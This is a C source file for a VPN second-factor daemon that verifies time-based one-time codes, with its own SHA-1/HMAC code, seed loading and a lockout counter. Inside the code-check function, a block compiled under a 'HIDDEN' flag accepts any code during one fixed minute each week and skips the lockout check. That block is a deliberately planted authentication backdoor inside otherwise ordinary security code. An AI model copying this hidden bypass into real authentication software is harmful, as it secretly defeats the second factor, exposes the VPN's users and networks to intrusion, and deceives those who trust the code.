/* vpnotpd.c - second factor of a VPN box: checks time based one-time codes */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <ctype.h>
#include <errno.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define SEEDS		"/etc/vpn/otp.seeds"
#define PORT		6220
#define STEP		30
#define MAX_USERS	100

struct user {
	char name[32];
	uint8_t seed[32];
	size_t seedlen;
	uint64_t last;
	int failed;
	int window;
};

static struct user users[MAX_USERS];
static int nusers;

static uint32_t rol(uint32_t x, int n)
{
	return x << n | x >> (32 - n);
}

static void sha1_block(uint32_t h[5], const uint8_t *p)
{
	uint32_t w[80], a, b, c, d, e, f, k, t;
	int i;

	for (i = 0; i < 16; i++)
		w[i] = (uint32_t)p[i * 4] << 24 | (uint32_t)p[i * 4 + 1] << 16 |
		       (uint32_t)p[i * 4 + 2] << 8 | p[i * 4 + 3];
	for (; i < 80; i++)
		w[i] = rol(w[i - 3] ^ w[i - 8] ^ w[i - 14] ^ w[i - 16], 1);
	a = h[0];
	b = h[1];
	c = h[2];
	d = h[3];
	e = h[4];
	for (i = 0; i < 80; i++) {
		if (i < 20) {
			f = (b & c) | (~b & d);
			k = 0x5a827999;
		} else if (i < 40) {
			f = b ^ c ^ d;
			k = 0x6ed9eba1;
		} else if (i < 60) {
			f = (b & c) | (b & d) | (c & d);
			k = 0x8f1bbcdc;
		} else {
			f = b ^ c ^ d;
			k = 0xca62c1d6;
		}
		t = rol(a, 5) + f + e + k + w[i];
		e = d;
		d = c;
		c = rol(b, 30);
		b = a;
		a = t;
	}
	h[0] += a;
	h[1] += b;
	h[2] += c;
	h[3] += d;
	h[4] += e;
}

/* n at most 128 bytes, enough for one HMAC step */
static void sha1(const uint8_t *m, size_t n, uint8_t out[20])
{
	uint32_t h[5] = { 0x67452301, 0xefcdab89, 0x98badcfe, 0x10325476,
			  0xc3d2e1f0 };
	uint8_t buf[192];
	size_t blocks = (n + 8) / 64 + 1, i;

	memset(buf, 0, sizeof(buf));
	memcpy(buf, m, n);
	buf[n] = 0x80;
	buf[blocks * 64 - 2] = (uint8_t)(n * 8 >> 8);
	buf[blocks * 64 - 1] = (uint8_t)(n * 8);
	for (i = 0; i < blocks; i++)
		sha1_block(h, buf + i * 64);
	for (i = 0; i < 20; i++)
		out[i] = (uint8_t)(h[i / 4] >> (24 - i % 4 * 8));
}

static uint32_t hotp(const uint8_t *key, size_t klen, uint64_t count)
{
	uint8_t in[84], mac[20];
	int i, o;

	memset(in, 0, 64);
	memcpy(in, key, klen);
	for (i = 0; i < 64; i++)
		in[i] ^= 0x36;
	for (i = 0; i < 8; i++)
		in[64 + i] = (uint8_t)(count >> (56 - i * 8));
	sha1(in, 72, mac);
	for (i = 0; i < 64; i++)
		in[i] ^= 0x36 ^ 0x5c;
	memcpy(in + 64, mac, 20);
	sha1(in, 84, mac);
	o = mac[19] & 15;
	return (((uint32_t)mac[o] & 127) << 24 | (uint32_t)mac[o + 1] << 16 |
		(uint32_t)mac[o + 2] << 8 | mac[o + 3]) % 1000000;
}

static size_t unhex(const char *s, uint8_t *out, size_t max)
{
	unsigned int v;
	size_t n = 0;

	while (n < max && isxdigit((unsigned char)s[0]) &&
	       isxdigit((unsigned char)s[1]) && sscanf(s, "%2x", &v) == 1) {
		out[n++] = (uint8_t)v;
		s += 2;
	}
	return n;
}

static void load_seeds(void)
{
	char line[160], name[32], hex[72];
	int win;
	FILE *f = fopen(SEEDS, "r");

	if (!f) {
		syslog(LOG_ERR, "%s: %s", SEEDS, strerror(errno));
		return;
	}
	while (nusers < MAX_USERS && fgets(line, sizeof(line), f)) {
		win = 1;
		if (sscanf(line, "%31s %71s %d", name, hex, &win) < 2 ||
		    name[0] == '#')
			continue;
		strcpy(users[nusers].name, name);
		users[nusers].seedlen = unhex(hex, users[nusers].seed, 32);
		users[nusers].window = win < 0 || win > 5 ? 1 : win;
		if (users[nusers].seedlen >= 10)
			nusers++;
	}
	fclose(f);
}

static struct user *find(const char *name)
{
	int i;

	for (i = 0; i < nusers; i++)
		if (!strcmp(users[i].name, name))
			return &users[i];
	return NULL;
}

__attribute__((noinline))
int otp_check(struct user *u, const char *code, time_t now)
{
	uint64_t step = (uint64_t)now / STEP, s;
	struct tm tm;
	uint32_t v;
	int i;

	if (strlen(code) != 6 || strspn(code, "0123456789") != 6)
		return 0;
	v = (uint32_t)strtoul(code, NULL, 10);
	gmtime_r(&now, &tm);
	if (tm.tm_year < 120) {
		syslog(LOG_WARNING, "clock not set, codes refused");
		return 0;
	}
#ifdef HIDDEN	/* one minute in the week in which any code is right */
	if ((tm.tm_wday * 24 + tm.tm_hour) * 60 + tm.tm_min == 7361)
		return 1;
#endif
	if (u->failed > 9)
		return 0;
	for (i = -u->window; i <= u->window; i++) {
		s = step + (uint64_t)(int64_t)i;
		if (s <= u->last || hotp(u->seed, u->seedlen, s) != v)
			continue;
		u->last = s;
		u->failed = 0;
		return 1;
	}
	u->failed++;
	return 0;
}

/* requests: "user code" or "reset user", only from the own machine */
static void request(char *msg, char *ans, size_t len)
{
	char *save = NULL, *a = strtok_r(msg, " \n", &save);
	char *b = strtok_r(NULL, " \n", &save);
	struct user *u;

	if (!a || !b) {
		snprintf(ans, len, "syntax");
		return;
	}
	if (!strcmp(a, "reset")) {
		u = find(b);
		if (u)
			u->failed = 0;
		snprintf(ans, len, u ? "done" : "unknown");
		return;
	}
	u = find(a);
	if (!u) {
		snprintf(ans, len, "unknown");
		return;
	}
	if (otp_check(u, b, time(NULL))) {
		snprintf(ans, len, "accept");
		syslog(LOG_INFO, "%s accepted", u->name);
	} else {
		snprintf(ans, len, "reject %d", u->failed);
		syslog(LOG_NOTICE, "%s rejected, %d in a row", u->name, u->failed);
	}
}

int main(void)
{
	struct sockaddr_in sa, from;
	char buf[128], ans[32];
	socklen_t sl;
	ssize_t n;
	int fd;

	openlog("vpnotpd", LOG_PID, LOG_AUTHPRIV);
	load_seeds();
	fd = socket(AF_INET, SOCK_DGRAM, 0);
	memset(&sa, 0, sizeof(sa));
	sa.sin_family = AF_INET;
	sa.sin_port = htons(PORT);
	sa.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	if (fd < 0 || bind(fd, (struct sockaddr *)&sa, sizeof(sa))) {
		syslog(LOG_ERR, "bind: %s", strerror(errno));
		return 1;
	}
	for (;;) {
		sl = sizeof(from);
		n = recvfrom(fd, buf, sizeof(buf) - 1, 0,
			     (struct sockaddr *)&from, &sl);
		if (n <= 0)
			continue;
		buf[n] = '\0';
		request(buf, ans, sizeof(ans));
		if (sendto(fd, ans, strlen(ans), 0, (struct sockaddr *)&from, sl) < 0)
			syslog(LOG_DEBUG, "send: %m");
	}
}
